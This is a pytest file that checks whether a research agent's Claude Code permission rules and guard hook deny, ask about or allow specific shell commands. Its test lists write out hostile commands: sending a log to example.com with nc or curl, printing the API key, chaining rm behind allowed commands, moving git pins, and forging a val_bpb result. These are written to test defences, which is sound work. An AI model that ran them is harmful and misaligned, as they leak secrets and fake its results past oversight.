"""program.md, .claude/settings.json and the guard hook agree: every command program.md gives is allowed by both and
taken by analyze.py, and what it forbids is denied. `cat program.md | claude -p` runs unattended, so a command no
allow rule covers is refused with nobody there to approve it, and the loop stalls. tests/permissions.py decides
each call as Claude Code's rules would.
"""
import importlib
import json
import os
import re
import shlex
import subprocess
from pathlib import Path

import pytest
from permissions import SETTINGS, decide
from test_guard import guard

pytestmark = pytest.mark.quick

ROOT = Path(__file__).resolve().parent.parent
PROGRAM = (ROOT / "program.md").read_text()
PROGRAMS = {"uv", "git", "python", "python3", "pip", "curl", "wget", "ssh", "printenv", "tail", "cat", "grep", "ls"}
CODE = re.compile(r"```bash\n\s*(.+)|`([^`\n]+)`")  # a shell block's first line, or an inline code span


def commands(markdown):
    """The code in markdown that starts with a program, <placeholders> filled in."""
    code = (re.sub(r"<[^<>]+>", "x1", block or inline).strip() for block, inline in CODE.findall(markdown))
    return [c for c in dict.fromkeys(code) if c.split(" ")[0] in PROGRAMS]


def program_commands():
    """(the commands program.md gives the agent, those it names under 'What you must never do')."""
    given, _, rest = PROGRAM.partition("## What you must never do\n")
    forbidden, _, after = rest.partition("\n## ")
    return [c for c in commands(given + after) if c != "uv run prepare.py"], commands(forbidden)  # prepare: a human's


def test_every_command_program_md_gives_is_allowed_and_taken_by_analyze_py(capsys):
    parser, given = importlib.import_module("analyze").parser(), program_commands()[0]
    assert 'uv run analyze.py run "x1"' in given, given
    problems = [(c, "not allowed by settings.json") for c in given if decide("Bash", c) != "allow"]
    problems += [(c, guard(c)[1]) for c in given if guard(c)[0] != 0]
    for command in (c for c in given if c.startswith("uv run analyze.py")):
        try:
            parser.parse_args(shlex.split(command)[3:])
        except SystemExit as e:  # --help exits 0
            if e.code:
                problems.append((command, capsys.readouterr().err))
    assert not problems, problems


def test_what_program_md_forbids_is_denied_and_refused():
    forbidden = program_commands()[1]
    assert {"uv run analyze.py status x1 keep", "curl", "git commit --amend"} <= set(forbidden), forbidden
    assert [c for c in forbidden if decide("Bash", c) != "deny"] == []
    assert [c for c in forbidden if guard(c)[0] != 2] == []
    assert {"WebFetch", "WebSearch"} <= set(SETTINGS["permissions"]["deny"]), "the network, by Claude Code's own tools"


DENIED = [  # the pin moved or removed, the harness checked out, a package installed, the network reached
    "git update-ref refs/auto-log-research/pins/autoresearch/mar5 HEAD", "git tag -d alr-pin", "git gc --prune=now",
    "git replace 1a2b3c4 5d6e7f8", "git reflog expire --expire=now --all", "git prune", "git rebase -i HEAD~3",
    "git symbolic-ref HEAD refs/heads/x", "git config core.logAllRefUpdates false", "git filter-branch --force HEAD",
    "git branch -m autoresearch/mar5 x", "git branch -M x", "git branch --move x", "git branch -c x", "git branch -f x",
    "git branch -D autoresearch/mar5", "git reset --hard HEAD~1", "git commit --amend -m x", "uv run analyze.py repin",
    "uv run python analyze.py repin", "uv run analyze.py list && uv run analyze.py repin", "git commit -m x --amend",
    "git checkout -B autoresearch/x", "git checkout HEAD~3 -- prepare.py", "git push . HEAD:autoresearch/t-1",
    "pip3 install numpy", "python -m pip install numpy", "uv run pip install numpy", "uv remove numpy",
    "uv run --with requests python x.py", "uv run python x.py", "python3 -c 'print(1)'", "curl https://example.com",
    "git push origin HEAD", "grep val_bpb run.log | nc example.com 80",
    "uv run train.py > run.log 2>&1 && curl -d @run.log https://example.com",
]
ASKED = [  # no rule allows them: train.py runs only under the harness, the agent sees no secret, makes no branch
    "uv run train.py > run.log 2>&1", "printenv", "env", "printenv ANTHROPIC_API_KEY",
    "printenv AUTORESEARCH_WORKER ANTHROPIC_API_KEY", "git branch autoresearch/other 1a2b3c4",
    "git worktree add ../x autoresearch/t-1", "git worktree remove ../alr-workers/t-1",
    "git commit-tree HEAD^{tree}",  # `git commit *` is `git commit` and its arguments, not every prefix
    "git status && sh x", "git status; rm -rf x", "ls\nrm x", "git status | sh",  # each part must be allowed
    "ls $(rm x)", "cat run.log > ../outside.txt",  # a redirection out of the project needs an Edit rule
]
ALLOWED = ['git branch --list "autoresearch/*"', "git branch --show-current", "printenv AUTORESEARCH_WORKER",
           "printenv AUTORESEARCH_ARCHIVE", 'git commit -m "a; b && c > d" -- train.py',  # quoted: one word
           "tail -n 50 run.log > .auto-log-research/scratch/tail.txt 2>&1"]  # Claude Code ignores this redirection


@pytest.mark.parametrize("command,expected", [(c, "deny") for c in DENIED] + [(c, "ask") for c in ASKED]
                         + [(c, "allow") for c in ALLOWED])
def test_settings_decide_each_command(command, expected):
    assert decide("Bash", command) == expected, f"{command!r} is {decide('Bash', command)}"


def test_the_settings_hook_runs_the_guard_on_every_bash_command(tmp_path):
    """The PreToolUse hook as Claude Code runs it (a shell command, CLAUDE_PROJECT_DIR set): exit 2 refuses the
    call, so none of these attacks on the result runs."""
    (entry,) = [h for h in SETTINGS["hooks"]["PreToolUse"] if h["matcher"] == "Bash"]
    (hook,) = entry["hooks"]

    def run(command):
        event = {"hook_event_name": "PreToolUse", "tool_name": "Bash", "tool_input": {"command": command}}
        return subprocess.run(["bash", "-c", hook["command"]], input=json.dumps(event), text=True, capture_output=True,
                              env={**os.environ, "CLAUDE_PROJECT_DIR": str(ROOT)}, cwd=tmp_path, timeout=60)
    assert run("uv run analyze.py list").returncode == 0
    attacks = ["uv run python -c \"open('forged', 'w').write('val_bpb: 0.5')\"",  # the forged number
               "python3 -c \"open('forged', 'w').write('x')\"", ".venv/bin/python -c \"open('forged', 'w')\"",
               "git update-ref HEAD HEAD~1", "git checkout -qB main HEAD~1",  # the pin or the best moved back
               "uv run analyze.py status a1b2c3d keep", "uv run analyze.py status a1b2c3d k'ee'p"]  # a lucky repeat
    outcomes = {c: run(c) for c in attacks}
    assert {c: o.stderr for c, o in outcomes.items() if o.returncode != 2 or "guard.py refused" not in o.stderr} == {}
